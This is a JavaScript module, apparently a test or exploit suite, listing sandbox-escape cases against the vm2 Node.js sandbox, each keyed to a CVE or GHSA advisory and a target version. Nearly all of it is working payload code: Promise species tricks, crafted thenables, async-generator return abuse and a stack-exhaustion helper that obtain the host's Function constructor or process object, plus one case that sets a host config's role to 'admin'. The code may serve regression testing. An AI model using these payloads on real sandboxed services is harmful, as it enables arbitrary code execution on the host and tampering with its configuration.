// Promises: what makes the next one, thenables, and what a promise of the host is settled with.
'use strict';

const species = (made) => `class { constructor(make) { make(() => {}, (e) => { ${made} }); } }`;

// `edge(thrown)`: what is thrown where the stack ends within what formats it, which is the host's. `thrown(work)` calls and gives what came.
const EDGE = `class Mine extends Error {}
      const deep = (n) => { if (n > 0) deep(n - 1); const e = new Mine(); e.stack; throw e; };
      const edge = async (thrown) => {
        for (let round = 0; round < 20; round++) {
          let low = 0, high = 60000;
          while (low < high) {
            const middle = (low + high) >> 1, e = await thrown(() => deep(middle));
            if (e instanceof Mine) low = middle + 1; else high = middle;
          }
          for (let n = low + 20; n > low - 80; n--) {
            const e = await thrown(() => deep(n));
            if (e && e.name === 'RangeError' && e.constructor.constructor !== Function) return e;
          }
        }
      };`;

module.exports = [
  {
    name: 'species', advisory: 'CVE-2023-37466', kind: 'VM', against: '3.9.19',
    code: ({ take, fails }) => `${fails}
      let result;
      const p = (async () => fails())();
      p.constructor = { [Symbol.species]: ${species(`result = ${take('e.constructor.constructor')};`)} };
      p.then();
      (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
  },
  {
    name: 'species-by-a-getter', advisory: 'before 3.10.4: looked at once, used once more', kind: 'VM', against: '3.9.19',
    code: ({ take, fails }) => `${fails}
      let result;
      for (const looks of [0, 1, 2]) {
        const p = (async () => fails())();
        let n = 0;
        Object.defineProperty(p, 'constructor', { configurable: true, get: () => (n++ < looks ? Promise : { [Symbol.species]: ${species(`result ??= ${take('e.constructor.constructor')};`)} }) });
        try { const next = p.then(); if (next instanceof Promise) next.catch(() => {}); } catch {}
      }
      (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
  },
  {
    name: 'unsanitized-rejection', advisory: 'CVE-2026-22709', kind: 'VM', against: '3.9.14',
    code: ({ take, fails }) => `${fails}
      (async () => fails())().catch((e) => ${take('e.constructor.constructor')})`,
  },
  {
    name: 'static-method-of-another', advisory: 'before 3.10.5: who is asked to make the promise', kind: 'VM', against: '3.9.19',
    code: ({ take, fails }) => `${fails}
      let result;
      function Other(make) { make(() => {}, (e) => { result = ${take('e.constructor.constructor')}; }); }
      Other.all = Promise.all;
      Other.resolve = () => {};
      Other.all({ [Symbol.iterator]: fails });
      result`,
  },
  {
    name: 'constructed-as-another', advisory: 'before 3.10.5: not an instance, and a promise', kind: 'VM', against: '3.9.19',
    code: ({ take, fails }) => `${fails}
      let result;
      function Other(make) { make(() => {}, (e) => { result = ${take('e.constructor.constructor')}; }); }
      Other[Symbol.species] = Other;
      const it = Reflect.construct(Promise, [() => fails()], Other);
      it.then = Promise.prototype.then;
      it.then();
      (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
  },
  {
    name: 'return-of-a-generator', advisory: 'GHSA-248r-7h7q-cr24', kind: 'VM', against: '3.11.2', deadline: 40_000, settle: 1000,
    code: ({ take }) => `${EDGE}
      async function* through() { yield* { [Symbol.asyncIterator]: () => ({ next: (value) => ({ value, done: false }), throw: (value) => ({ value, done: false }) }) }; }
      const thrown = async (work) => {
        const it = through();
        await it.next();
        return (await it.return({ then(resolve) { work(); resolve(); } })).value;
      };
      (async () => { const e = await edge(thrown); return ${take('e.constructor.constructor')}; })()`,
  },
  {
    name: 'species-of-what-is-swallowed', advisory: 'GHSA-76w7-j9cq-rx2j', kind: 'VM', against: '3.11.2', deadline: 40_000, settle: 1000,
    code: ({ take }) => `${EDGE}
      let caught, work;
      const Species = function (make) { make(() => work(), (e) => { caught = e; }); };
      class Other extends Promise { static get [Symbol.species]() { return Species; } }
      const thrown = async (given) => {
        work = given;
        caught = undefined;
        new Other((resolve) => resolve());
        for (let i = 0; i < 6; i++) await null;
        return caught;
      };
      (async () => { const e = await edge(thrown); return ${take('e.constructor.constructor')}; })()`,
  },
  {
    name: 'value-of-a-promise-of-the-host', advisory: 'CVE-2026-44000', kind: 'VM', against: '3.10.5',
    options: (host) => ({ sandbox: { load: async () => host.config } }),
    code: `load().then((it) => { it.role = 'admin'; it.nested.limit = 1e9; })`, reaches: 'changed: what it configured',
  },
  {
    name: 'thenable-though-nothing-is-to-come-later', advisory: 'GHSA-f8gf-w286-fmq2', kind: 'VM', against: '3.11.2', reaches: 'late',
    options: (host) => ({ allowAsync: false, sandbox: { tell: () => host.returned && host.touch('late') } }),
    code: `Promise.resolve({ then() { tell(); } }); 1`,
  },
  {
    name: 'species-of-a-promise-of-the-host', advisory: 'GHSA-6454-5x88-m6jw', kind: 'VM', against: '3.11.2',
    options: () => ({ sandbox: { load: () => new Promise((resolve, reject) => { setTimeout(() => reject(Object.assign(new Error('no'), { of: process })), 20); }) } }),
    code: ({ use }) => `let result;
      const p = load();
      function Other(make) { make(() => {}, (e) => { result = ${use('e.of')}; }); }
      Other[Symbol.species] = Other;
      p.constructor = Other;
      p.then();
      1`,
  },
];
